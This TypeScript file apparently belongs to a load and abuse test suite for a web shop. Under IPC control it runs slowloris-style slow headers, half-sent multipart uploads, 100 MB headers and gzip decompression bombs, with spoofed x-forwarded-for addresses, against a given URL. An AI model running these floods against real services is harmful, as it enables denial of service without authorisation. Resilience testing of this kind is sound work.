/** A process that burdens a shop with connections: `slow-crowd.ts <crowd> <url>`, told over IPC when to begin and to end. */
import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { createClient, csrfHeaders } from '../attacks/client.ts';

export interface FromCrowd {
  /** how often each status was answered, and how often a connection was closed without one */
  said: Record<string, number>;
}

const CONNECTIONS = 10_000;
/** Opened side by side, so that the listening queue of the machine is not what is measured. */
const OPENED_AT_ONCE = 100;
const BYTE_EVERY_MS = 5000;
const UPLOADS = 500;
const HEADER_CALLS = 8;
const HEADER_MB = 100;
const BOMBS = 8;
const MB = 1024 * 1024;
const BOMB_MB = 512;

interface Post {
  host: string;
  port: number;
  said: Record<string, number>;
  isOn: () => boolean;
  url: string;
}

const count = (said: Record<string, number>, what: string) => {
  said[what] = (said[what] ?? 0) + 1;
};

/** Opens a connection and counts what it is answered. */
const dial = async ({ host, port, said }: Post): Promise<Socket | null> => {
  const socket = connect(port, host);
  socket.on('error', () => undefined);
  socket.on('data', (chunk: Buffer) => {
    const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1];
    if (status) count(said, status);
  });
  const isOpen = await new Promise<boolean>((resolve) => {
    socket.once('connect', () => resolve(true)).once('close', () => resolve(false));
  });
  if (isOpen) socket.once('close', () => count(said, 'closed'));
  else count(said, 'not opened');
  return isOpen ? socket : null;
};

const many = async (total: number, open: (nth: number) => Promise<void>): Promise<void> => {
  for (let nth = 0; nth < total; nth += OPENED_AT_ONCE)
    await Promise.all(Array.from({ length: Math.min(OPENED_AT_ONCE, total - nth) }, (_, index) => open(nth + index)));
};

const written = async (socket: Socket, data: Buffer | string): Promise<void> => {
  if (socket.destroyed || socket.write(data)) return;
  await new Promise<void>((resolve) => {
    socket.once('drain', resolve).once('close', resolve);
  });
};

/** What each crowd does; it resolves once all of it is there, and goes on while `isOn`. */
export const crowds = {
  /** heads that never end, a byte from time to time */
  'slow heads': async (post: Post) => {
    await many(CONNECTIONS, async () => {
      const socket = await dial(post);
      if (!socket) return;
      socket.write('GET /api/store HTTP/1.1\r\nhost: shop\r\nx-slow: ');
      const timer = setInterval(() => socket.write('a'), BYTE_EVERY_MS);
      socket.once('close', () => clearInterval(timer));
    });
  },
  /** forms with a file of which half is never sent */
  'half-open uploads': async (post: Post) => {
    const call = createClient(post.url);
    const headers = await csrfHeaders(call, '203.0.113.7');
    call.close();
    const half = Buffer.alloc(256 * 1024, 0x61);
    await many(UPLOADS, async (nth) => {
      const socket = await dial(post);
      if (!socket) return;
      const head = [
        'POST /api/jackets/logos HTTP/1.1',
        'host: shop',
        `x-forwarded-for: 203.0.113.${1 + (nth % 250)}`,
        `x-csrf-token: ${headers['x-csrf-token']}`,
        `cookie: ${headers.cookie}`,
        `x-session-id: 00000000-0000-4000-8000-${String(nth).padStart(12, '0')}`,
        'content-type: multipart/form-data; boundary=half',
        `content-length: ${MB}`,
      ];
      const part =
        '--half\r\ncontent-disposition: form-data; name="file"; filename="logo.png"\r\ncontent-type: image/png\r\n\r\n';
      socket.write(`${head.join('\r\n')}\r\n\r\n${part}`);
      await written(socket, half);
    });
  },
  /** a header of a hundred megabytes */
  'endless headers': async (post: Post) => {
    const piece = Buffer.alloc(MB, 0x61);
    for (let nth = 0; nth < HEADER_CALLS; nth += 1)
      void (async () => {
        while (post.isOn()) {
          const socket = await dial(post);
          if (!socket) continue;
          socket.write('GET / HTTP/1.1\r\nhost: shop\r\nx-long: ');
          for (let sent = 0; sent < HEADER_MB && !socket.destroyed; sent += 1) await written(socket, piece);
          socket.destroy();
          await pause(50);
        }
      })();
  },
  /** bodies that unpack to half a gigabyte */
  bombs: async (post: Post) => {
    const call = createClient(post.url);
    const headers = await csrfHeaders(call, '203.0.113.8');
    const bomb = gzipSync(Buffer.alloc(BOMB_MB * MB, 0x20));
    for (let nth = 0; nth < BOMBS; nth += 1)
      void (async () => {
        for (let turn = 0; post.isOn(); turn += 1) {
          const response = await call({
            method: 'POST',
            path: '/api/contact',
            from: `203.0.113.${1 + (turn % 250)}`,
            headers: { ...headers, 'content-type': 'application/json', 'content-encoding': 'gzip' },
            body: bomb,
          }).catch(() => null);
          count(post.said, response ? String(response.status) : 'closed');
          await pause(50);
        }
        call.close();
      })();
  },
};

const isCrowd = (name: string): name is keyof typeof crowds => name in crowds;

/** Senders have machines of their own: on this one they take what the shop and its quiet visitors leave of the processor. */
const LEAST_PRIORITY = 19;

const run = async (name: string, url: string): Promise<void> => {
  setPriority(LEAST_PRIORITY);
  if (!isCrowd(name)) throw new Error(`no crowd ${name}`);
  const { hostname, port } = new URL(url);
  const said: Record<string, number> = {};
  let isOn = true;
  const tell = () => process.send?.({ said } satisfies FromCrowd);
  process.on('message', (message) => {
    if (message === 'begin') {
      crowds[name]({ host: hostname, port: Number(port), said, url, isOn: () => isOn }).then(tell, (error) => {
        process.stderr.write(`${error}\n`);
        process.exit(1);
      });
    } else {
      isOn = false;
      tell();
    }
  });
  tell();
};

if (process.send) await run(process.argv[2] ?? '', process.argv[3] ?? '');
